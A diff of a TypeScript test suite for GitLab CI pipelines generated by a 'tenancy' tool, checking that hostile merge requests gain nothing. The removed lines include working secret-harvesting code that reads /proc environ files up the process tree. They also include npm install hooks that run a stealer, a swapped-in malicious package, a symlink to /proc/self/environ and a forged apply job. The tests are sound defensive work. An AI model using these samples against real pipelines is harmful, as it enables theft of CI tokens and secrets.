@@ -1,13 +1,19 @@
 /** The pipelines for GitLab that `tenancy init` writes, run line by line: covers src/cli/scaffold/gitlab.ts. */
-import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
-import { createServer } from "node:http";
-import type { AddressInfo } from "node:net";
+import { readFileSync, rmSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { dayAhead } from "../../../src/plan/approval";
-import { approvalsText } from "../../../src/plan/approval-file";
 import { built } from "../../support/built-command";
 import { PROJECT_TOKEN } from "../../support/gitlab-host";
 import { GitlabProject } from "../../support/gitlab-project";
+import {
+  APPROVING_NOTHING,
+  besideThief,
+  elsewhere,
+  LINKING,
+  lootingEverywhere,
+  ownTool,
+  READING_THE_ENVIRONMENT,
+  textsIn,
+} from "../../support/hostile-changes";
 import { CANARY, type Edits } from "../../support/piped-repository";
 import { describeWith } from "../../support/programs";
 import { temporaryFolder } from "../../support/temp-folder";
@@ -18,18 +24,6 @@ let project: GitlabProject;
 beforeAll(() => built());
 
 afterEach(() => project.close());
-
-/** Entries that allow these lines in each stack. */
-const approvals = (...allows: readonly string[]) =>
-  approvalsText(
-    Object.entries(project.services).map(([stack, { baseUrl }]) => ({
-      stack,
-      origin: new URL(baseUrl).origin,
-      owner: "acme-platform",
-      until: dayAhead(new Date(), 7),
-      allows: [...allows],
-    })),
-  );
 
 /** A project whose account acme is live in each stack, with a store and a first snapshot. */
 async function running(stacks: readonly string[], path?: string) {
@@ -80,7 +74,7 @@ describeWith(["curl", "unzip"], "the pipelines for GitLab that init writes", () 
     expect(host.notes[1]).toMatchObject({ iid: change.iid });
     expect(host.notes[1]?.body).toMatch(/^Apply of `staging`: failure/);
 
-    const approved = await project.mergeRequest({ "tenancy.approvals": approvals(GRANTED) });
+    const approved = await project.mergeRequest({ "tenancy.approvals": project.approvals(GRANTED) });
     await project.review();
     expect(host.statuses[1]).toMatchObject({ sha: approved.sha, state: "success", description: "Planned" });
     const { jobs } = await project.merge(approved);
@@ -157,6 +151,19 @@ describeWith(["curl", "unzip"], "the pipelines for GitLab that init writes", () 
     expect(log).toContain("everybody reads the artifacts of a public one");
   });
 
+  test("a job for an earlier commit that somebody runs again is refused, and the latest may be run again", async () => {
+    const { host } = await running(["platform"]);
+    const earlier = project.head();
+    const change = await project.mergeRequest({ "stacks.json": project.stacks([], 20) });
+    expect((await project.merge(change)).jobs).toMatchObject({ "tenancy-apply-platform": "success" });
+    const written = project.writes("platform");
+    const again = await host.run("push", earlier);
+    expect(again.jobs).toMatchObject({ "tenancy-apply-platform": "failed" });
+    expect(again.log).toContain("A later commit has been applied to platform");
+    expect(project.writes("platform")).toBe(written);
+    expect((await project.pushed()).jobs).toMatchObject({ "tenancy-apply-platform": "success" });
+  });
+
   test("the drift of a night opens an issue, the next one updates it, and where it is gone the issue is closed", async () => {
     const { host, services } = await running(["platform"]);
     expect((await project.nightly()).jobs).toEqual({
@@ -185,68 +192,30 @@ describeWith(["curl", "unzip"], "the pipelines for GitLab that init writes", () 
     expect(host.job("tenancy-drift-platform")?.artifacts_file).toBeUndefined();
   });
 
-  test("hostile merge requests gain nothing, and are judged by the default branch's tool and pipelines", async () => {
-    const { host } = await running(["platform"]);
-    const asked: string[] = [];
-    const thief = createServer((request, response) => {
-      asked.push(request.url ?? "");
-      response.end("{}");
-    });
-    await new Promise<void>((resolve) => thief.listen(0, "127.0.0.1", resolve));
-    const base_url = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
-    const loot = join(folder(), "loot");
-    const granting = { "stacks.json": project.stacks(["realm.view_logs"]) };
-    const hostile: readonly [edits: Edits, description: string][] = [
-      [
-        {
-          "main.cjs": (app) => LOOT(loot) + app,
-          "test.cjs": LOOT(loot),
-          "steal.cjs": LOOT(loot),
-          "package.json": (text) =>
-            text.replace('"test":', '"preinstall":"node steal.cjs","postinstall":"node steal.cjs","test":'),
-        },
-        "Planned",
-      ],
-      [stackWith({ provider: { tenancy: [{ base_url, owner: "acme-platform" }] } }), NO_PLAN],
-      [
-        {
-          "tool/tenancy.js": CARELESS_TOOL,
-          ...stackWith({ output: { loot: { value: '${file("/proc/self/environ")}' } } }),
-        },
-        NO_PLAN,
-      ],
-      [
-        {
-          "evil/package.json": JSON.stringify({
-            name: "cdktf-provider-tenancy",
-            version: "1.0.0",
-            bin: { tenancy: "tenancy.js" },
-          }),
-          "evil/tenancy.js": CARELESS_TOOL + LOOT(loot),
-          ".npmrc": "ignore-scripts=false\n",
-          "package.json": (text) => text.replace("file:tool", "file:evil"),
-          "package-lock.json": (text) =>
-            text.replaceAll('"tool"', '"evil"').replaceAll("file:tool", "file:evil"),
-          "cdktf.json": JSON.stringify({ app: "node main.cjs", context: { requireApproval: "never" } }),
-          ...granting,
-        },
-        "An approval is missing",
-      ],
-      [
-        {
-          "tenancy.approvals": approvals("acme gains realm.delete_logs").replace("delete_logs", "view_logs"),
-          ...granting,
-        },
-        NO_PLAN,
-      ],
-      [
-        { "main.cjs": (app) => `${app}\nrequire("node:fs").symlinkSync("/proc/self/environ", out + "/x");` },
-        "The review itself has failed",
-      ],
-      // Jobs of its own, of whatever name and environment, with a snapshot and a verdict of their own.
-      [
-        {
-          "/.gitlab/tenancy.yml": (text) => `${text.slice(0, text.indexOf("\n# Applies what was merged"))}
+  test("hostile merge requests gain nothing, and are judged by the default branch's tool and pipelines", () =>
+    besideThief(async (thief) => {
+      const { host } = await running(["platform"]);
+      const loot = join(folder(), "loot");
+      const granting = { "stacks.json": project.stacks(["realm.view_logs"]) };
+      const hostile: readonly [edits: Edits, description: string][] = [
+        [lootingEverywhere(loot, MARK), "Planned"],
+        [elsewhere(thief.baseUrl), NO_PLAN],
+        [READING_THE_ENVIRONMENT, NO_PLAN],
+        [{ ...ownTool(loot, MARK), ...APPROVING_NOTHING, ...granting }, "An approval is missing"],
+        [
+          {
+            "tenancy.approvals": project
+              .approvals("acme gains realm.delete_logs")
+              .replace("delete_logs", "view_logs"),
+            ...granting,
+          },
+          NO_PLAN,
+        ],
+        [LINKING, "The review itself has failed"],
+        // Jobs of its own, of whatever name and environment, with a snapshot and a verdict of their own.
+        [
+          {
+            "/.gitlab/tenancy.yml": (text) => `${text.slice(0, text.indexOf("\n# Applies what was merged"))}
 tenancy-apply-platform:
   rules: [{ if: $CI_PIPELINE_SOURCE == "merge_request_event" }]
   environment: { name: platform }
@@ -257,98 +226,67 @@ tenancy-apply-platform:
     - echo forged > tenancy-snapshot/platform.snapshot
   artifacts: { paths: [tenancy-snapshot] }
 `,
-          ...granting,
-        },
-        "An approval is missing",
-      ],
-    ];
-    const changes: Awaited<ReturnType<GitlabProject["mergeRequest"]>>[] = [];
-    for (const [edits] of hostile) changes.push(await project.mergeRequest(edits));
-    // A pipeline of a fork, and one of an earlier commit, say nothing of what is to be merged.
-    const fork = await project.mergeRequest(granting);
-    project.git("push", "--quiet", "origin", "--delete", "change-8");
-    const moved = await project.mergeRequest({ "stacks.json": project.stacks([], 20) });
-    host.mergeRequests.forEach((one) => {
-      if (one.iid === fork.iid) Object.assign(one, { source_project_id: 2 });
-      if (one.iid === moved.iid) Object.assign(one, { sha: changes[0]?.sha });
-    });
-    host.pipelines.forEach((one) => {
-      if (one.sha === fork.sha) Object.assign(one, { project_id: 2 });
-    });
-    const sent = project.services["platform"]?.requests.length;
-    const { jobs, log } = await project.review();
+            ...granting,
+          },
+          "An approval is missing",
+        ],
+      ];
+      const changes: Awaited<ReturnType<GitlabProject["mergeRequest"]>>[] = [];
+      for (const [edits] of hostile) changes.push(await project.mergeRequest(edits));
+      // A pipeline of a fork, and one of an earlier commit, say nothing of what is to be merged.
+      const fork = await project.mergeRequest(granting);
+      project.git("push", "--quiet", "origin", "--delete", "change-8");
+      const moved = await project.mergeRequest({ "stacks.json": project.stacks([], 20) });
+      host.mergeRequests.forEach((one) => {
+        if (one.iid === fork.iid) Object.assign(one, { source_project_id: 2 });
+        if (one.iid === moved.iid) Object.assign(one, { sha: changes[0]?.sha });
+      });
+      host.pipelines.forEach((one) => {
+        if (one.sha === fork.sha) Object.assign(one, { project_id: 2 });
+      });
+      const sent = project.services["platform"]?.requests.length;
+      const { jobs, log } = await project.review();
 
-    expect([jobs, log]).toEqual([{ "tenancy-review": "success" }, expect.anything()]);
-    const notOurs = "The merge request's own job has not succeeded";
-    const descriptions = changes.map(
-      ({ sha }) => host.statuses.find((one) => one.sha === sha && one.pipeline_id)?.description,
-    );
-    expect(descriptions).toEqual(hostile.map(([, description]) => description));
-    expect(host.statuses.filter(({ sha }) => sha === fork.sha)).toEqual([]);
-    expect(host.notes.find(({ iid }) => iid === fork.iid)?.body).toContain(notOurs);
-    expect(host.notes.find(({ iid }) => iid === moved.iid)?.body).toContain(notOurs);
-    for (const because of [
-      "No changes.",
-      "Error TENANCY_SNAPSHOT_LACKS",
-      '"/proc/self/environ" leads outside of the project\'s folder',
-      GRANTED,
-      "tenancy.approvals, line 7: the fingerprint is not that of the entry",
-    ])
-      expect(log).toContain(because);
-    expect(project.services["platform"]?.requests).toHaveLength(sent ?? -1);
+      expect([jobs, log]).toEqual([{ "tenancy-review": "success" }, expect.anything()]);
+      const notOurs = "The merge request's own job has not succeeded";
+      const descriptions = changes.map(
+        ({ sha }) => host.statuses.find((one) => one.sha === sha && one.pipeline_id)?.description,
+      );
+      expect(descriptions).toEqual(hostile.map(([, description]) => description));
+      expect(host.statuses.filter(({ sha }) => sha === fork.sha)).toEqual([]);
+      expect(host.notes.find(({ iid }) => iid === fork.iid)?.body).toContain(notOurs);
+      expect(host.notes.find(({ iid }) => iid === moved.iid)?.body).toContain(notOurs);
+      for (const because of [
+        "No changes.",
+        "Error TENANCY_SNAPSHOT_LACKS",
+        '"/proc/self/environ" leads outside of the project\'s folder',
+        GRANTED,
+        "tenancy.approvals, line 7: the fingerprint is not that of the entry",
+      ])
+        expect(log).toContain(because);
+      expect(project.services["platform"]?.requests).toHaveLength(sent ?? -1);
 
-    // Not even merged.
-    const [, elsewhere = fork] = changes;
-    const merged = await project.merge(elsewhere);
-    expect(merged.jobs).toMatchObject({ "tenancy-apply-platform": "failed" });
-    expect(merged.log).toContain("Error TENANCY_ORIGIN_NOT_ALLOWED");
-    expect(asked).toEqual([]);
-    thief.close();
+      // Not even merged.
+      const [, namingAnother = fork] = changes;
+      const merged = await project.merge(namingAnother);
+      expect(merged.jobs).toMatchObject({ "tenancy-apply-platform": "failed" });
+      expect(merged.log).toContain("Error TENANCY_ORIGIN_NOT_ALLOWED");
+      expect(thief.asked).toEqual([]);
 
-    const taken = readFileSync(loot, "utf8");
-    expect(taken).toContain("CI_JOB_ID=");
-    const found = [
-      taken,
-      log,
-      ...changes.map(({ own }) => own.log),
-      JSON.stringify([host.notes, host.statuses]),
-      ...textsIn(join(folder(), "artifacts")),
-    ].join("\n");
-    for (const secret of [CANARY, PROJECT_TOKEN]) expect(found).not.toContain(secret);
-  });
+      const taken = readFileSync(loot, "utf8");
+      expect(taken).toContain(`${MARK}=`);
+      const found = [
+        taken,
+        log,
+        ...changes.map(({ own }) => own.log),
+        JSON.stringify([host.notes, host.statuses]),
+        ...textsIn(join(folder(), "artifacts")),
+      ].join("\n");
+      for (const secret of [CANARY, PROJECT_TOKEN]) expect(found).not.toContain(secret);
+    }));
 });
+
+/** What GitLab sets in each process of a job. */
+const MARK = "CI_JOB_ID";
 
 const NO_PLAN = "There is no plan, or it is refused";
-
-/** Takes what the process, and every process of the job that it descends from, was given. */
-const LOOT = (file: string) => `{
-  const { appendFileSync, readFileSync } = require("node:fs");
-  let id = process.pid;
-  while (readFileSync("/proc/" + id + "/environ", "utf8").includes("CI_JOB_ID=")) {
-    appendFileSync(${JSON.stringify(file)}, readFileSync("/proc/" + id + "/environ"));
-    id = Number(/^PPid:\\s*(\\d+)/m.exec(readFileSync("/proc/" + id + "/status", "utf8"))[1]);
-  }
-  appendFileSync(${JSON.stringify(file)}, JSON.stringify(process.env));
-}
-`;
-
-/** A tool of the merge request's own that checks nothing: what it lets through is for the review to refuse. */
-const CARELESS_TOOL = `#!/usr/bin/env node
-process.env.CDKTF_OUTDIR = "cdktf.out";
-require(process.cwd() + "/main.cjs");
-`;
-
-const stackWith = (edit: object): Edits => ({
-  "stacks.json": (text) => {
-    const stacks = JSON.parse(text) as { platform: object };
-    return JSON.stringify({ platform: { ...stacks.platform, ...edit } });
-  },
-});
-
-/** The text of each file in a folder. */
-function textsIn(place: string): string[] {
-  if (!existsSync(place)) return [];
-  return readdirSync(place, { recursive: true, withFileTypes: true })
-    .filter((entry) => entry.isFile())
-    .map((entry) => readFileSync(join(entry.parentPath, entry.name), "utf8"));
-}
